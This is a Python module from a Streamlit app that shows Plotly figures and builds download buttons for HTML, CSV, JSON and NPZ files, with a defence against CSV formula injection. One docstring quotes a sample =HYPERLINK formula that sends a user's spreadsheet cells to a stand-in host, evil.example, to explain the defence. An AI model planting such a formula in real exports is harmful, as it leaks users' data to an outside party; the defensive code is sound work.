"""Figures and downloads: a figure with its image and HTML exports, CSV and NPZ buttons.

Every download is built in memory when clicked and handed to the browser; the app writes no
files. Figures themselves are built by ``flamino_core.figures`` (pure Plotly, no Streamlit).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable

import numpy as np
import pandas as pd
import streamlit as st

from flamino_core.figures import figure_html

from app_pages._ui.frame.widgets import kept_radio

IMAGE_FORMAT = "image_format"  # session-state key: the camera button's format
# The HTML download embeds plotly.js so it opens offline; say what that costs (issue 24: 4.8 MB
# for one figure looked like a mistake). The camera button gives a small PNG or SVG instead.
HTML_HELP = ("A standalone page that opens offline, interactive: it carries plotly.js (about 4.8 MB) "
             "besides the figure's data. For a small file use the camera button on the figure (PNG/SVG).")
IMAGE_FORMATS = ["png", "svg"]


def safe_name(text: str) -> str:
    """``text`` (a record id) as a file-name stem: no path separators, no odd characters."""
    return re.sub(r"[^A-Za-z0-9_.-]+", "_", text).strip("_.")[:60] or "record"


def image_format_picker() -> None:
    """Sidebar choice of the format the figures' camera buttons save."""
    kept_radio(
        "Figure image format (camera button on each figure)",
        IMAGE_FORMAT,
        IMAGE_FORMATS,
        default=IMAGE_FORMATS[0],
        format_func=str.upper,
        horizontal=True,
    )


def show_figure(fig, key: str, file_stem: str, on_select: Callable[[], None] | None = None):
    """The figure, its PNG/SVG via the camera button, and an HTML download (built on click).

    ``on_select``: called when the user clicks a point (the selection is then in
    ``st.session_state[key].selection``); None: the figure is not selectable.

    Returns the row holding the download button, so callers can put their data downloads
    beside it (``with row: csv_button(...)``).
    """
    fmt = st.session_state.get(IMAGE_FORMAT, IMAGE_FORMATS[0])
    selectable = {} if on_select is None else {"on_select": on_select, "selection_mode": "points"}
    st.plotly_chart(
        fig,
        key=key,
        theme=None,
        config={
            "displaylogo": False,
            "toImageButtonOptions": {"format": fmt, "filename": file_stem, "scale": 2},
        },
        **selectable,
    )
    row = st.container(horizontal=True)
    with row:
        _download("Figure (HTML)", lambda: figure_html(fig), f"{file_stem}.html", "text/html", f"{key}_html",
                  help=HTML_HELP)
    return row


# --- CSV cells a spreadsheet would run (CWE-1236) ----------------------------------------------------
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def formula_safe(cell: object) -> object:
    """A text cell that a spreadsheet would take for a formula (it starts with ``= + - @``, a tab
    or a carriage return, as OWASP lists) with a ``'`` put in front, which spreadsheets show as
    text and hide; numbers (``-1.5``) and everything else unchanged. Record ids, mutants, headers
    and table cells come from visitors: ``=HYPERLINK("https://evil.example/?"&A1,"x")`` would
    otherwise send a user's other cells away when the download is opened."""
    if not isinstance(cell, str):
        return cell
    if "\r" in cell:  # CSV writers quote a cell with a line feed, not one with a bare CR (a row break)
        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
    if not cell.startswith(_FORMULA_STARTS):
        return cell
    if cell[0] in "+-":
        try:
            float(cell)
            return cell
        except ValueError:
            pass
    return "'" + cell


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with ``formula_safe`` applied to its text columns (and column names)."""
    frame = frame.rename(columns=lambda c: formula_safe(c) if isinstance(c, str) else c)
    text = [c for c, dtype in frame.dtypes.items() if dtype == object or pd.api.types.is_string_dtype(dtype)]
    if text:
        frame = frame.copy()
        for column in text:
            frame[column] = frame[column].map(formula_safe)
    return frame


def formula_safe_csv(text: str) -> str:
    """CSV text with ``formula_safe`` applied to every cell (for CSVs built as text)."""
    rows = csv.reader(io.StringIO(text, newline=""))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([formula_safe(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_button(
    label: str, make_frame: Callable[[], pd.DataFrame], file_name: str, key: str, na_rep: str = "",
    help: str | None = None, model: str | None = None,
) -> None:
    """A download of the table ``make_frame()`` builds (only when clicked) as CSV, formula-safe.

    ``na_rep``: how missing values are written (``NaN`` for contacts that were not predicted:
    an empty cell would read as a value lost on the way). ``model``: the model that computed the
    table, written in a last ``model`` column (two models' files read alike without it).
    """
    def csv_bytes() -> bytes:
        return formula_safe_frame(with_model(make_frame(), model)).to_csv(index=False, na_rep=na_rep).encode("utf-8")

    _button(label, csv_bytes, file_name, "text/csv", key, help=help)


def with_model(frame: pd.DataFrame, model: str | None) -> pd.DataFrame:
    """``frame`` with a last ``model`` column (unless it has one, or no model is given)."""
    if model is None or "model" in frame.columns:
        return frame
    return frame.assign(model=model)


def text_button(label: str, make_text: Callable[[], str], file_name: str, mime: str, key: str) -> None:
    """A download of the text ``make_text()`` builds (only when clicked): a PDB file, a CSV."""
    _download(label, lambda: make_text().encode("utf-8"), file_name, mime, key)
def json_button(label: str, make_object: Callable[[], object], file_name: str, key: str) -> None:
    """A download of the JSON of what ``make_object()`` builds (only when clicked)."""
    _download(label, lambda: (json.dumps(make_object(), indent=2) + "\n").encode("utf-8"), file_name,
              "application/json", key)


def npz_button(label: str, arrays: Callable[[], dict[str, np.ndarray]], file_name: str, key: str) -> None:
    """A download of the arrays ``arrays()`` builds (only when clicked) as a compressed NPZ."""

    def build() -> bytes:
        buffer = io.BytesIO()
        np.savez_compressed(buffer, **arrays())
        return buffer.getvalue()

    _download(label, build, file_name, "application/octet-stream", key)


def file_button(label: str, build: Callable[[], bytes | str], file_name: str, key: str, mime: str) -> None:
    """A download of whatever ``build()`` makes (only when clicked): an HDF5 file, a table's text."""
    _download(label, build, file_name, mime, key)


def _download(label: str, data: Callable[[], bytes | str], file_name: str, mime: str, key: str,
              help: str | None = None) -> None:
    if mime == "text/csv":
        data = _csv_made_safe(data)
    _button(label, data, file_name, mime, key, help)


def _csv_made_safe(data: Callable[[], bytes | str]) -> Callable[[], bytes]:
    """Every CSV download goes through ``formula_safe``: a frame's text columns in ``csv_button``
    (fast: numbers untouched), other CSVs built as text here."""
    def build() -> bytes:
        made = data()
        text = made.decode("utf-8") if isinstance(made, bytes) else made
        return formula_safe_csv(text).encode("utf-8")

    return build


def _button(label: str, data: Callable[[], bytes | str], file_name: str, mime: str, key: str,
            help: str | None = None) -> None:
    # on_click="ignore": a download does not rerun the page (which would recompute its figures).
    st.download_button(
        label, data=data, file_name=file_name, mime=mime, key=key, on_click="ignore", icon=":material/download:",
        help=help,
    )
